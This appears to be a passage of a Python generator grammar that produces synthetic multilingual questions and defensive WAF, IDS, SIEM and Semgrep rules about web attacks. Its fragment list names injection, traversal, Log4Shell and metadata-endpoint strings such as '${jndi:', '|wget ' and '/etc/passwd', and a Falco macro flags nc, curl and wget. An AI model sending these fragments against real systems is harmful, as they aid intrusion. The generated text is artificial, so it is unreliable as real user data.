  El ‹=auditor/cliente/escáner› ‹=encontró/reportó/probó› ‹qpay› en ‹=la búsqueda/el campo ‹slug›/el panel› y ‹=se ejecuta/devuelve todo/falla con 500›. ‹=Hay que sanear la entrada./Ya está corregido en ‹ver›./›
  ‹=Cosa significa/Come evitare/Perché vedo/A cosa serve› ‹qpay› ‹=nei log/nell'URL/in PHP/nel campo ‹slug››?
  ‹=O que é/Como evitar/Por que aparece/Alguém sabe o que faz› ‹qpay› ‹=no log/na URL/no formulário de ‹slug›/em Java›?
  ‹=Что значит/Как защититься от/Почему в логах/Зачем пишут› ‹qpay› ‹=в адресе/в форме поиска/на сайте/в PHP›‹=?/, подскажите/?? спасибо›
  ‹=Сканер нашёл/В отчёте указано/Пользователь ввёл› «‹pay›» — ‹=нужно экранировать/закрыть до пятницы/это безопасно?/ошибка 500›
  ‹=请问/为什么/日志里出现/怎么防止/老师，› ‹qpay› ‹=是什么意思/是SQL注入吗/怎么过滤/报错500怎么办/这种攻击›‹=？/。/›
  ‹=漏洞描述/测试步骤/复现›：在‹=搜索框/登录页/参数 ‹slug››输入‹qpay›，‹=页面弹窗/返回全部数据/服务器报错›。‹=建议使用预编译/建议转义输出/›
  ‹=ログに/フォームに/検索欄に/URLに›「‹pay›」‹=と出ますが大丈夫ですか/を入れると500になります/が表示されました/を防ぐには›‹=？/。/›
  ‹=로그에/검색창에/게시판에› '‹pay›' ‹=가 보이는데 공격인가요/를 입력하면 오류가 납니다/를 막는 방법/는 무슨 뜻인가요›‹=?/./›
  ‹=Co oznacza/Jak zabezpieczyć/Dlaczego w logach jest› ‹qpay› ‹=w adresie/w formularzu/na stronie›?
  ‹=Wat betekent/Hoe voorkom ik/Waarom zie ik› ‹qpay› ‹=in mijn log/in de URL/in het formulier›?
  ‹=what does/is it safe to allow/how do I escape/why does the WAF block/ELI5:/can someone explain› ‹qpay› ‹=mean/in a comment/in python/do in a URL/in my nginx log/exploit the form›‹=?/ ?/, thanks›
  > ‹pay›⏎⏎‹=That is/Looks like/It's just› ‹=a scanner/‹class_›/a bot looking for ‹product_›/a classic from the OWASP cheat sheet›. ‹fix›
  [quote="‹user›"]‹=What is/I found/Is this› ‹pay› ‹=?/in my logs/bad?›[/quote]⏎‹=Somebody tried/It means/That's› ‹class_›. ‹fix›
@rule
  SecRule ‹var_› "@rx ‹rx›" "id:‹id›,phase:2,‹=deny,status:403/block/pass/log›,t:none‹=/,t:lowercase/,t:urlDecodeUni›,msg:'‹class_›'"
  SecRule REQUEST_URI "@‹=contains/beginsWith/pm› ‹=..∕/union select/∕wp-login.php/<script/.env .git .bak›" "id:‹int›,deny"
  SecRuleRemoveById 9‹id› 9‹id›
  alert http any any -> $HOME_NET any (msg:"‹class_› attempt"; flow:established,to_server; http.uri; content:"‹bit_›"; nocase; ‹=pcre:"∕‹rx›∕Ui"; /›classtype:web-application-attack; sid:‹id›; rev:‹digit›;)
  alert tcp $EXTERNAL_NET any -> $HOME_NET ‹port› (msg:"‹slug›"; content:"|2e 2e 2f|"; content:"‹bit_›"; distance:0; sid:‹id›;)
  (http.request.uri.query contains "‹bit_›") or (http.request.uri.path matches "‹rx›") ‹=and not ip.src in {‹ip›∕24}/and ip.geoip.country ne "DE"/or cf.threat_score gt ‹int››
  {"Name":"‹pascal›","Statement":{"‹=SqliMatchStatement/XssMatchStatement/ByteMatchStatement/RegexMatchStatement›":{"FieldToMatch":{"QueryString":{}},"SearchString":"‹bit_›","TextTransformations":[{"Priority":0,"Type":"URL_DECODE"}]}},"Action":{"Block":{}}}
  if ($‹=query_string/request_uri/args/http_user_agent› ~* "‹rx›") { return 403; }
  location ~* ‹=\.(env|git|bak|sql)$/∕\.(?!well-known)/(wp-login|xmlrpc)\.php/\.\.∕› { deny all; }
  RewriteCond %{‹=QUERY_STRING/REQUEST_URI/HTTP_USER_AGENT/HTTP_REFERER›} ‹rx› [NC,OR]
  RewriteRule ^(.*/)?\.‹=git/svn/env/ht›(/|$) - [F,L]
  http-request deny if { ‹=path_sub/query -m sub/url_sub -i/path_end› ‹bit_› }
  title: ‹class_› Attempt⏎logsource:⏎  category: webserver⏎detection:⏎  keywords:⏎    - '‹bit_›'⏎    - '‹bit_›'⏎  condition: keywords⏎level: ‹=high/medium›
  rule ‹snake› { strings: $a = "‹bit_›" nocase $b = /‹rx›/ $c = { 3C 3F 70 68 70 } condition: any of them }
  - macro: ‹snake›⏎  condition: (proc.name in (‹=bash, sh, zsh/nc, ncat/curl, wget›) and proc.pname in (‹=nginx, php-fpm/java, node›))
  index=‹=web/proxy/waf› ‹=uri_query/url/_raw›="*‹bit_›*" | ‹=rex/regex› "‹rx›" | stats count by src_ip, ‹snake› | where count > ‹int›
  {app="‹=nginx/ingress/‹slug››"} |~ `(?i)‹rx›` ‹=!= "‹word›"/| json | status >= 400/› | line_format "{{.remote_addr}} {{.request}}"
  url.original : (*‹bit_›* or *‹bit_›*) and not source.ip : "‹ip›"
  W3CIISLog | where csUriQuery has_any ("‹bit_›", "‹bit_›") or csUriQuery matches regex @"‹rx›" | summarize count() by cIP
  @http.url:*‹bit_›* @http.status_code:[400 TO 599] -service:‹kebab›
  semgrep: pattern: ‹=cursor.execute("..." + $X)/subprocess.run(..., shell=True)/$EL.innerHTML = $X/eval($X)/open(os.path.join($DIR, $X))/exec("..." % $X)›  message: ‹class_›
  - pattern-not: ‹=db.query("...", [...])/hashlib.sha256(...)/yaml.safe_load(...)›⏎- pattern: ‹=db.query(`...${$X}...`)/hashlib.md5(...)/yaml.load($X)/pickle.loads($X)/child_process.exec($CMD)›
  from HttpRequest r where r.getParameter().regexpMatch("‹rx›") select r, "‹class_›"
  disallowed_patterns = [r"‹rx›", r"‹rx›", r"\b‹word›\b"]
  const ‹const› = /‹rx›/i; // ‹class_›
  ‹rx›|‹rx›|‹rx›
  ^(?!.*‹rx›).+$
  preg_match('/‹rx›/i', $‹snake›) and die('‹word›');
  blacklist: [‹blitem*2-6|, ›]
  ‹blitem*3-9|,›
@blitem
  '‹bit_›'
  "‹bit_›"
@var_
  ‹=ARGS/ARGS|REQUEST_HEADERS/REQUEST_URI/REQUEST_COOKIES|!REQUEST_COOKIES:‹slug›/REQUEST_BODY/FILES_NAMES/REQUEST_HEADERS:User-Agent/XML:∕*›
@bit_
  ‹=..∕/%2e%2e%2f/union select/union+all+select/<script/onerror=/javascript:/∕etc∕passwd/cmd.exe/;cat /|wget /base64_decode(/eval(/${jndi:/information_schema/sleep(/benchmark(/xp_cmdshell/wp-config/.env/phpinfo/php:∕∕input/document.cookie/'--/() {/\x00/%00/__proto__/waitfor delay/169.254.169.254/sqlmap/nikto/..\\..\\/<?php/<!entity/boot.ini/{{/$(/char(/0x3c/exec(/rundll32/load_file(/outfile/../etc∕shadow/onload=/alert(/\u003cscript/gopher:∕∕/rO0AB/chr(›
""",
    pay=_PAY, req=_request, rx=_G.make("regex"),
)  # fmt: skip

KINDS: tuple[TextKind, ...] = (
    TextKind("logs_quoted.access", _G.make("access"), 1.5, (VALUE, FILE)),
    TextKind("logs_quoted.alert", _G.make("alert"), 1.1),
    TextKind("logs_quoted.syslog", _G.make("sys"), 0.8, (VALUE, FILE)),
    TextKind("logs_quoted.event", _G.make("event"), 1.2, (VALUE, FILE)),
    TextKind("logs_quoted.trace", _G.make("trace"), 1.2),
    TextKind("logs_quoted.finding", _TALK.make("finding"), 1.4),
    TextKind("logs_quoted.question", _TALK.make("ask"), 0.9),
    TextKind("logs_quoted.rule", _TALK.make("rule"), 1.1),
)
